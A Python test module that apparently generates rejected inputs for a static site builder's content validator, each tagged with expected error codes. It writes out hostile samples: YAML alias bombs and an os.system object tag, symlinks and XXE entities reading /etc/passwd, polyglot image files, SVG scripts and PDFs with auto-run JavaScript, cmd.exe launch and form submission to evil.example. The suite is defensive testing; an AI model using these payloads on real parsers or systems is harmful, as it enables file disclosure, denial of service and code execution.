"""What must be refused, and with which codes: made and not stored.

It refuses chance: the same turn makes the same bytes.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from PIL import Image

from district.reading.markup import Writer
from tests.content import page, write
from tests.hostile.payloads import (
    EMAILS,
    FILE_NAMES,
    HTML,
    METADATA,
    OLD_ADDRESSES,
    PHONES,
    SCHEMES,
    SLUGS,
)
from tests.pictures.making import hollow_png

PAGE = "pages/chi-siamo"
FACTS, TEXT = f"{PAGE}/facts.yaml", f"{PAGE}/text.it.md"
KILO = 1024


@dataclass(frozen=True)
class Case:
    """Something sent that no build may take: what it lays into a folder, and the codes of which it is told by one."""

    name: str
    codes: frozenset[str]
    do: Callable[[Path], None]


def case(name: str, codes: str, files: dict[str, str | bytes]) -> Case:
    return Case(name, frozenset(codes.split()), lambda folder: write(folder, files))


def quoted(value: str) -> str:
    """A value as YAML in double quotes, signs that YAML does not carry escaped."""
    return yaml.safe_dump(value, default_style='"', width=10**9, allow_unicode=False).strip()


def refused() -> Iterator[Case]:
    """Everything that is refused."""
    yield from _yaml_bombs()
    yield from _text_bombs()
    yield from _texts()
    yield from _values()
    yield from _metadata()
    yield from _names()
    yield from _special_files()
    yield from _pictures()
    yield from _drawings()
    yield from _documents()


def _yaml_bombs() -> Iterator[Case]:
    laughs = 'a: &a ["lol"]\n' + "".join(f"b{n}: &b{n} [{','.join(['*a'] * 9)}]\n" for n in range(9))
    most = 250 * KILO
    for name, codes, content in (
        ("a billion laughs", "Y105", laughs),
        ("sixty thousand aliases", "Y105", "a: &a x\nb: [" + "*a," * 60_000 + "]"),
        ("brackets without end", "Y114", "a: " + "[" * 120_000),
        ("braces without end", "Y114", "a: " + "{a: " * 40_000),
        ("dashes without end", "Y114", "- " * 100_000),
        ("question marks without end", "Y114", "? " * 100_000),
        ("steps without end", "Y114", "".join(" " * n + "a:\n" for n in range(500))),
        ("an object of Python", "Y105", 'sample: !!python/object/apply:os.system ["id"]'),
        ("a tag of one's own", "Y105", "sample: !x y"),
        ("a binary tag", "Y105", "sample: !!binary aGVsbG8="),
        ("a merge key", "Y105 F102", "a: &a {x: y}\n<<: *a"),
        ("fifteen thousand tags", "Y117", "".join(f"k{n}: !!x a\n" for n in range(15_000))),
        ("twenty thousand keys", "Y117", "".join(f"k{n}: a\n" for n in range(20_000))),
        ("fifty thousand equal keys", "Y117", "a: b\n" * 50_000),
        ("sixty thousand wrong values", "Y117", "aliases: [" + "..," * 60_000 + "]"),
        ("a key of 250 KB", "Y115 Y102 F102", "a" * most + ": b"),
        ("ten megabytes", "Y106", "a: b\n" * 2_000_000),
        ("a null byte", "Y102", "a: \0"),
        ("an escape", "Y102", "a: \x1b[31m"),
        ("UTF-16", "Y101", "sample: true".encode("utf-16")),
        ("UTF-32", "Y101 Y102", "sample: true".encode("utf-32")),
        ("Latin-1", "Y101", "a: caffè".encode("latin-1")),
        ("half a letter", "Y101", b"a: \xc3"),
        ("a surrogate", "Y101", b"a: \xed\xa0\x80"),
        ("two documents", "Y102", "a: b\n---\nc: d\n"),
        ("a directive", "Y102 F102", "%TAG ! tag:x,2000:\n---\na: b"),
        ("a list in the place of fields", "Y113", "- a\n- b\n"),
        ("a key that is a list", "Y102 F102", "? [a]\n: b\n"),
        ("a key twice", "Y104", "order: 1\norder: 2\n"),
    ):
        yield case(name, codes, {FACTS: content})


def _text_bombs() -> Iterator[Case]:
    size = 200 * KILO
    for sign in ("[", "![", "[a](", "*a ", "**a", "_a", "<", "<a ", '<a href="', "&", ">", "> ", "`", "|", "<div>"):
        yield case(f"{sign!r} without end", "T111", {TEXT: page(body=sign * (size // len(sign)))})
    for body in ("<!--", "<![CDATA[", "<?", "\\", "&#x6a;", "- ", "<b>", "(", "[x]["):
        yield case(f"{body!r} without end", "T111", {TEXT: page(body=body * (size // len(body)))})
    for body in ("***\n", "# a\n", "a\n: b\n", "[TOC]\n\n", "|a|b|\n|-|-|\n", "    - a\n", "[a](http://b.c)\n\n"):
        yield case(f"{body!r} without end", "T111", {TEXT: page(body=body * (size // len(body)))})
    yield case("abbreviations without end", "T111", {TEXT: page(body="*[A]: b\n" * 9000)})
    yield case("a head without end", "T101", {TEXT: "---\n" + "title: A\n" * 9000})


def _texts() -> Iterator[Case]:
    for number, value in enumerate(HTML):
        markup = Writer().write(value)
        if markup.left_out or markup.refused:
            yield case(f"HTML {number}: {value[:40]}", "T110 T104", {TEXT: page(body=f"Testo.\n\n{value}\n")})
            yield case(f"HTML {number} in a line", "T110 T104", {TEXT: page(body=f"Testo {value} testo.\n")})
    told = "T104 T105 T107 T108 T112"
    for number, address in enumerate(SCHEMES):
        name = f"{number}: {address[:40]!r}"
        for form in (f"[x](<{address}>)", f"[x]\n\n[x]: <{address}>", f"![x](<{address}>)"):
            markup = Writer().write(form)
            if markup.refused or markup.targets:
                yield case(f"a link {name} as {form[:3]!r}", told, {TEXT: page(body=form)})
        attribute = address.replace('"', "&quot;")
        for form in (f'<a href="{attribute}">x</a>', f'<img src="{attribute}">'):
            if Writer().write(form).refused:
                yield case(f"an address {name} in {form[:4]}", f"T110 {told}", {TEXT: page(body=form)})


def _values() -> Iterator[Case]:
    """Values in the fields that are more than a text."""
    event = "events/x/facts.yaml"
    picture = "pictures: [{{file: {}, alt: {{it: A, en: A}}, credit: A}}]"
    for values, codes, name, form in (
        (SCHEMES[:32], "F113", "members/x/facts.yaml", "name: A\nwebsite: {}"),
        (EMAILS, "F110", "members/x/facts.yaml", "name: A\nemail: {}"),
        (PHONES, "F111", "members/x/facts.yaml", "name: A\nphone: {}"),
        (FILE_NAMES, "F119 P101", FACTS, picture),
        (SLUGS, "F129 R101", event, "type: fair\nstart: 2027-01-01\norganisers: [{}]"),
        (SLUGS, "F129 R101", FACTS, "aims: [{}]"),
        (OLD_ADDRESSES, "F133", FACTS, "aliases: [{}]"),
        (OLD_ADDRESSES, "F102", FACTS, "address: {}"),
    ):
        for value in values:
            yield case(f"{name} {form[:20]!r}: {value[:30]!r}", codes, {name: form.format(quoted(value))})
    for value in ("9999-99-99", "-1", "1e9", "NaN", "0x7f", "1_000", "٣", "∞", "9" * 5000, "+30d"):
        start = f"type: fair\nstart: {quoted(value)}"
        yield case(f"a moment {value[:10]}", "F106 F107 F109 F131", {event: start})
        yield case(f"a number {value[:10]}", "F103 F104", {FACTS: f"order: {quoted(value)}"})


def _metadata() -> Iterator[Case]:
    for name in METADATA:
        yield case(f"{name} in a head", "F102", {TEXT: f"---\ntitle: A\n{name}: ../../x.html\n---\nA.\n"})
        yield case(f"{name} in facts", "F102", {FACTS: f"{name}: ../../x.html\n"})
    yield case("metadata as Pelican has them", "T101", {TEXT: "Title: A\nsave_as: ../x.html\n\nA.\n"})


def _names() -> Iterator[Case]:
    text = page()
    for name in (*SLUGS[2:], "con", "nul", "aux", "com1", "lpt9"):
        if os.sep in name or len(name.encode()) > 250:
            continue
        files = {f"pages/{name}/facts.yaml": "", f"pages/{name}/text.it.md": text}
        yield case(f"a folder {name[:20]!r}", "Y109", files)
    for name in ("text.it.md.exe", "facts.yml", "site.yaml.bak", "TEXT.IT.MD ", ".env.yaml"):
        if not name.startswith("."):
            told = "Y108 Y116 Y109 N103"
            yield case(f"a file {name!r}", told, {f"{PAGE}/{name}": "x"})
    for name in ("text.../x.md", "text.CON.md", "x.it.md", "text.it.en.md", "text..md"):
        yield case(f"a text {name!r}", "Y116 Y108 L102", {f"{PAGE}/{name}": text})
    yield case("a name in bidi", "Y109", {f"{PAGE}/a\u202efdp.jpg": "x"})
    yield case("a name of bytes", "Y109", {os.fsdecode(b"pages/caf\xe9/facts.yaml"): ""})
    yield case("two names by case", "Y110", {f"{PAGE}/foto.jpg": "x", f"{PAGE}/FOTO.jpg": "x"})
    yield case("a folder in an entry", "Y108", {f"{PAGE}/sub/facts.yaml": ""})
    yield case("a kind of one's own", "Y108", {"__pycache__x/a/facts.yaml": ""})
    yield case("a template in content", "Y108", {"templates/base.html": "{{ 1 }}"})
    yield case("a section of one's own", "A103", {"sections/assets/facts.yaml": "", "sections/assets/text.it.md": text})


def _special_files() -> Iterator[Case]:
    def link(name: str, target: str) -> Callable[[Path], None]:
        return lambda folder: (folder / name).symlink_to(target)

    def instead(name: str, target: str) -> Callable[[Path], None]:
        def do(folder: Path) -> None:
            (folder / name).unlink()
            (folder / name).symlink_to(target)

        return do

    told = frozenset({"Y111"})
    yield Case("a link to a file", told, link(f"{PAGE}/foto.jpg", "/etc/passwd"))
    yield Case("a link to a folder", told, link("pages/altrove", "/etc"))
    yield Case("a link to the folder above", told, link(f"{PAGE}/su", ".."))
    yield Case("a link to nothing", told, link(f"{PAGE}/foto.jpg", "/nowhere"))
    yield Case("a link to itself", told, link(f"{PAGE}/foto.jpg", "foto.jpg"))
    yield Case("a link in the place of a text", told, instead(TEXT, "/etc/passwd"))
    yield Case("a link in the place of facts", told, instead(FACTS, "/etc/passwd"))
    yield Case("a link in the place of site.yaml", told, instead("site.yaml", "/etc/passwd"))
    yield Case("a link to a device", told, link(f"{PAGE}/foto.jpg", "/dev/zero"))
    yield Case("a pipe", told, lambda folder: os.mkfifo(folder / PAGE / "foto.jpg"))
    yield Case("a pipe in the place of a text", told, lambda folder: os.mkfifo(folder / PAGE / "text.fr.md"))


def _file(name: str, content: bytes, codes: str, title: str) -> Case:
    facts = f"pictures: [{{file: {name}, alt: {{it: A, en: A}}, credit: A}}]"
    return case(title, codes, {f"{PAGE}/{name}": content, FACTS: facts})


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    """A small, sound picture."""
    out = io.BytesIO()
    Image.new("RGB", size, "#9c4221").save(out, form, **options)
    return out.getvalue()


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as pack:
        pack.writestr("index.html", "<script>alert(1)</script>")
    return out.getvalue()


def _pictures() -> Iterator[Case]:
    jpeg, png = picture(), picture("PNG")
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue", "green")]
    moving = {"save_all": True, "append_images": frames}
    gif = picture("GIF")
    yield _file("a.jpg", b"<script>alert(1)</script>", "P103", "a page called .jpg")
    yield _file("a.jpg", b"", "P103", "a picture of no bytes")
    yield _file("a.jpg", png, "P107", "a PNG called .jpg")
    yield _file("a.png", gif, "P103", "a GIF called .png")
    yield _file("a.jpg", gif[:6] + b"/*" + gif[6:] + b"*/=1;alert(1)", "P103", "a GIF that is a script too")
    yield _file("a.png", zipped(), "P103", "a ZIP called .png")
    yield _file("a.png", b"%PDF-1.4\n" + png, "P103", "a PDF before a PNG")
    yield _file("a.jpg", b"MZ" + jpeg, "P103", "a program before a JPEG")
    yield _file("a.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "P103", "an SVG called .jpg")
    yield _file("a.jpg", jpeg[: len(jpeg) // 2], "P102 P103", "half a JPEG")
    yield _file("a.jpg", jpeg[:4], "P102 P103", "four bytes of a JPEG")
    yield _file("a.png", png[:-20], "P102", "a PNG without its end")
    yield _file("a.png", png[:40] + b"\0" + png[41:], "P102 P103", "a PNG with a wrong sum")
    yield _file("a.webp", picture("WEBP")[:60], "P102 P103", "half a WebP")
    yield _file("a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 200, "P102 P103", "a HEIC of nothing")
    yield _file("a.png", hollow_png(50_000, 50_000), "P105", "a PNG of 50,000 x 50,000")
    yield _file("a.png", hollow_png(2**31 - 1, 2**31 - 1), "P105 P102 P103", "a PNG of the largest size")
    yield _file("a.png", hollow_png(1, 90_000_000), "P105", "a PNG of one column")
    header = jpeg.find(b"\xff\xc0")
    yield _file(
        "a.jpg",
        jpeg[: header + 5] + struct.pack(">HH", 65_000, 65_000) + jpeg[header + 9 :],
        "P105",
        "a JPEG of 65,000 x 65,000",
    )
    yield _file("a.png", picture("PNG", (8, 8), **moving), "P106", "a PNG that moves")
    yield _file("a.webp", picture("WEBP", (8, 8), **moving), "P106", "a WebP that moves")
    yield _file("a.jpg", picture("TIFF"), "P103", "a TIFF")
    yield _file("a.jpg", picture("BMP"), "P103", "a BMP")
    yield _file("a.png", picture("ICO", (16, 16)), "P103", "an icon")
    yield _file(
        "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(id) system", "P103", "a PostScript program"
    )


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'


def _logo(content: str, codes: str, title: str) -> Case:
    facts = "name: A\nlogo: {file: a.svg}"
    return case(title, codes, {"members/x/a.svg": content, "members/x/facts.yaml": facts})


def _drawings() -> Iterator[Case]:
    for inner, codes, title in (
        ("<script>alert(1)</script>", "P108", "a script alone"),
        (
            "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>1</script></body></foreignObject>",
            "P108",
            "a page",
        ),
        ("<image href='https://evil.example/x.png'/><path d='M0 0'/>", "P109", "a picture from elsewhere"),
        ("<filter id='f'><feImage href='https://evil.example/x'/></filter><path d='M0 0'/>", "P109", "a filter"),
        ("<style>@import url(https://evil.example/);</style><path d='M0 0'/>", "P108", "rules from elsewhere"),
        ("<iframe/><path d='M0 0'/>", "P109", "a frame"),
        (
            "".join(f"<g id='g{n}'>" + f"<use href='#g{n - 1}'/>" * 10 + "</g>" for n in range(1, 9))
            + "<path id='g0' d='M0 0'/>",
            "P109",
            "parts of parts",
        ),
        ("<g>" * 5000 + "</g>" * 5000, "P108 P103", "groups without end"),
        ("<path d='" + "M0 0" * 150_000 + "'/>", "P108", "a path of 600 KB"),
    ):
        yield _logo(SVG.format(inner), codes, f"a drawing: {title}")
    entity = "<!DOCTYPE svg [<!ENTITY {}>]>" + SVG.format("<text>&x;</text>")
    yield _logo(entity.format('x SYSTEM "file:///etc/passwd"'), "P108", "a drawing: a file as an entity")
    yield _logo(entity.format('a "lol"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;&a;"'), "P108", "a drawing: laughs")
    yield _logo(
        entity.format('% x SYSTEM "https://evil.example/x.dtd"> %x; <!ENTITY y "z"'),
        "P108 P103",
        "a drawing: a parameter",
    )
    yield _logo("<html><script>alert(1)</script></html>", "P103", "a drawing: a page")
    yield _logo("\x89PNG\r\n", "P103", "a drawing: a PNG")
    yield _logo(SVG.format("<path d='M0 0'/>")[:-6], "P103", "a drawing: cut off")
    yield _logo(SVG.replace("0 0 9 9", "0 0 1e99 NaN").format("<path d='M0 0'/>"), "P108", "a drawing: without bounds")


def pdf(extra: str = "", trailer: str = "", more: bytes = b"") -> bytes:
    """The smallest PDF, with more in its catalogue, its trailer, and between its objects."""
    head = f"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {extra} >>\nendobj\n"
    pages = "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    return f"{head}{pages}".encode() + more + f"trailer\n<< /Root 1 0 R {trailer} >>\n%%EOF\n".encode()


def packed(content: bytes, told: bytes = b"/Filter /FlateDecode") -> bytes:
    """A stream of objects, packed."""
    import zlib

    body = zlib.compress(content)
    return b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 " + told + b" >>\nstream\n" + body + b"\nendstream\nendobj\n"


def _documents() -> Iterator[Case]:
    script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    for title, codes, content in (
        ("JavaScript when it opens", "P110", pdf(f"/OpenAction {script}")),
        ("JavaScript by another spelling", "P110", pdf("/OpenAction << /S /J#61vaScript /J#53 (x) >>")),
        ("JavaScript by name", "P110", pdf("/Names << /JavaScript 9 0 R >>")),
        ("a program to start", "P110", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>")),
        ("a form to send", "P110", pdf("/OpenAction << /S /SubmitForm /F (https://evil.example/) >>")),
        ("data to import", "P110", pdf("/OpenAction << /S /ImportData /F (x) >>")),
        ("actions of its own", "P110", pdf(f"/AA << /WC {script} >>")),
        ("a file within", "P110", pdf("/Names << /EmbeddedFiles 9 0 R >>")),
        ("a form of XML", "P110", pdf("/AcroForm << /XFA 9 0 R >>")),
        ("a film", "P110", pdf("/Annots [<< /Subtype /RichMedia >>]")),
        ("JavaScript packed", "P110", pdf(more=packed(b"9 0 << /S /JavaScript /JS (x) >>"))),
        ("JavaScript packed twice", "P111", pdf(more=packed(b"x", b"/Filter [/ASCIIHexDecode /FlateDecode]"))),
        ("JavaScript packed and cut off", "P102 P111 P110", pdf(more=packed(b"9 0 << /JS (x) >>")[:70])),
        ("a bomb", "P111", pdf(more=packed(b"\0" * (80 * KILO**2)))),
        ("a password", "P111", pdf(trailer="/Encrypt 9 0 R")),
        ("a page called .pdf", "P103", b"<html><script>alert(1)</script></html>%PDF-1.4"),
        ("a ZIP called .pdf", "P103", zipped() + b"%PDF-1.4"),
        ("nothing", "P103", b""),
    ):
        facts = "documents: [{file: a.pdf, title: {it: A, en: A}}]"
        yield case(f"a document: {title}", codes, {f"{PAGE}/a.pdf": content, FACTS: facts})
